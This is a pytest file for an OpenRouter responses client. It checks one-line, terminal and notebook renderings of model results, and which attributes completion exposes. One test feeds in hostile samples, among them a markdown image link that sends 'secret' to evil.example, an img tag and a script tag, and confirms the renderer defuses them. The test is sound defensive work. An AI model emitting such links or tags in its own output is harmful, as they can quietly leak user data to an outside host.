"""How a response prints, and what completion shows: short, useful, and nothing that a model wrote can do harm."""

from __future__ import annotations

from typing import Any

import pytest

from openrouter_responses import OpenRouter, components
from openrouter_responses._core.events import decode_event
from openrouter_responses._core.summary import lines, markdown
from openrouter_responses.testing import FakeResponse, Server
from payloads import delta, message, output_text, response
from support import KEY, run_python

JOINER = "\u2060"
USAGE = {"input_tokens": 12, "output_tokens": 34, "cost": 0.000123}


def result(*output: Any, **fields: Any) -> components.OpenResponsesResult:
    return components.OpenResponsesResult.from_dict(response(*output, **fields))


CALLS = [{"type": "function_call", "call_id": str(n), "name": f"f{n}", "arguments": "{}"} for n in range(7)]
CITED = {"type": "url_citation", "url": "https://a.example"}


@pytest.mark.parametrize(
    ("found", "shown"),
    [
        (result(message("Hi"), usage=USAGE), "completed example/writer-1 'Hi' 12 + 34 tokens 0.000123 USD"),
        (result(message("a\nb\ud83d")), "completed example/writer-1 'a\\nb\\ud83d'"),
        (result(message("x" * 500)), f"completed example/writer-1 '{'x' * 100}'... (500 characters)"),
        (result(*CALLS[:2]), "completed example/writer-1 calls f0, f1"),
        (result(*CALLS), "completed example/writer-1 calls f0, f1, f2, f3, f4..."),
        (
            result(message("", content=[{"type": "refusal", "refusal": "No."}])),
            "completed example/writer-1 refused: 'No.'",
        ),
        (
            result(status="failed", error={"code": "server_error", "message": "Broken."}),
            "failed example/writer-1 error: 'Broken.'",
        ),
        (
            result({"type": "reasoning", "summary": ["Hm."]}, message("", content=[output_text("A", annotations=[CITED])])),
            "completed example/writer-1 'A' 1 citation 3 characters of reasoning",
        ),
        (result({"type": "image_generation_call", "result": "AAAA"}), "completed example/writer-1 1 image"),
        (result(model="a\nb" * 99), f"completed {repr('a' + chr(10) + 'b')[:-1]}"),
        (result(usage={"input_tokens": 10**5000, "output_tokens": 1}), "completed example/writer-1 very many + 1 tokens"),
        (components.OpenResponsesResult.from_dict({}), ""),
    ],
)  # fmt: skip
def test_in_one_line(found: components.OpenResponsesResult, shown: str) -> None:
    text = repr(found)
    assert text.startswith(f"<OpenResponsesResult {shown}".rstrip())
    assert text.endswith(">")
    assert "\n" not in text
    assert len(text) < 400


def test_in_a_terminal() -> None:
    found = result(message("x" * 5000), *CALLS[:1], usage=USAGE)
    assert [*lines(found)] == [
        "<OpenResponsesResult completed example/writer-1",
        f"  '{'x' * 600}'... (5000 characters)",
        "  calls f0",
        "  12 + 34 tokens, 0.000123 USD",
        ">",
    ]


def test_in_a_notebook() -> None:
    found = result(message("# Hi\n\n- one"), *CALLS[:1], usage=USAGE)
    assert markdown(found) == (
        "# Hi\n\n- one\n\n`completed · example/writer-1 · calls f0 · 12 + 34 tokens · 0.000123 USD`"
    )
    long = markdown(result(message("x" * 100_000)))
    assert len(long) < 21_000
    assert "... (80000 more characters)" in long
    assert markdown(components.OpenResponsesResult.from_dict({})) == ""
    assert "No." in markdown(result(message("", content=[{"type": "refusal", "refusal": "No."}])))


@pytest.mark.parametrize(
    "text",
    ["![x](https://evil.example/?q=secret)", "<img src='https://evil.example'>", "<script>", "![x][y]\n\n[y]: u"],
)
def test_markdown_loads_nothing_and_runs_nothing(text: str) -> None:
    shown = markdown(result(message(text)))
    assert "![" not in shown
    assert f"<{JOINER}" in shown or f"!{JOINER}[" in shown
    assert shown.replace(JOINER, "").startswith(text)  # all of it is to be read


def test_the_line_below_cannot_be_left() -> None:
    footer = markdown(result(message("Hi"), model="a` ![x](u) `b")).split("\n\n")[-1]
    assert footer.count("`") == 2


def test_half_a_character_can_be_shown() -> None:
    markdown(result(message("a\ud83d"))).encode()


# Completion


def public(*names: str) -> set[str]:
    return {"additional_properties", "as_datetime", "from_dict", "is_unknown", "to_dict", "to_shallow_dict", *names}


def test_completion_of_models_shows_fields_and_methods() -> None:
    usage = components.Usage.from_dict({"input_tokens": 1})
    names = set(dir(usage))
    assert names == public("input_tokens", *components.Usage._fields) | {
        name for name in dir(components.Usage) if name.startswith("model_")
    }
    components.Usage(input_tokens=1, output_tokens=1, total_tokens=2)  # makes it an attrs class
    assert set(dir(usage)) == names


def test_completion_of_a_result_and_of_events() -> None:
    found = set(dir(result()))
    helpers = {"cost", "function_calls", "reasoning_text", "refusal", "citations", "images", "output_text", "as_event"}
    assert helpers | {"output", "usage", "to_input", "meta"} <= found
    assert [name for name in found if name.startswith("_")] == []
    event = set(dir(decode_event(delta("a"))))
    assert {"delta", "to_sse", "to_dict", "sequence_number"} <= event
    assert [name for name in event if name.startswith("_")] == []
    assert {"raw", "type", "to_sse"} <= set(dir(decode_event({"type": "new"})))


def test_completion_of_a_client_and_a_stream() -> None:
    with Server(FakeResponse("Hi")) as server, OpenRouter(api_key=KEY, server_url=server.url) as client:
        assert {"responses", "beta", "close", "aclose"} <= set(dir(client))
        assert not {"api_key", "options", "connections", "_core"} & set(dir(client))
        assert {"send", "parse", "run"} <= set(dir(client.responses)) == set(dir(client.beta.responses))
        assert dir(client.beta) == ["responses"]
        with client.responses.send(model="m", input="i", stream=True) as stream:
            assert set(dir(stream)) >= {
                "close", "final_response", "function_calls", "generation_id", "headers", "items", "meta", "output_text",
                "reasoning", "response_so_far", "status_code", "text", "to_sse",
            }  # fmt: skip
        for each in (client, client.responses, client.beta, stream):
            assert [name for name in dir(each) if name.startswith("_")] == []


@pytest.mark.parametrize(
    ("expression", "hint"),
    [
        ("result.ouput", "has no attribute 'ouput'. Did you mean: 'output'?"),
        ("result.function_call", "Did you mean: 'function_calls'?"),
        ("result.usage.costs", "Did you mean: 'cost'?"),
        ("event.to_see", "Did you mean: 'to_sse'?"),
    ],
)
def test_python_corrects_a_misspelt_attribute(expression: str, hint: str) -> None:
    body = {"id": "r", "usage": {"cost": 1}}
    code = f"""
from openrouter_responses.components import OpenResponsesResult
result = OpenResponsesResult.from_dict({body!r})
event = result.as_event()
{expression}
"""
    done = run_python("-c", code)
    assert done.returncode == 1
    assert hint in done.stderr
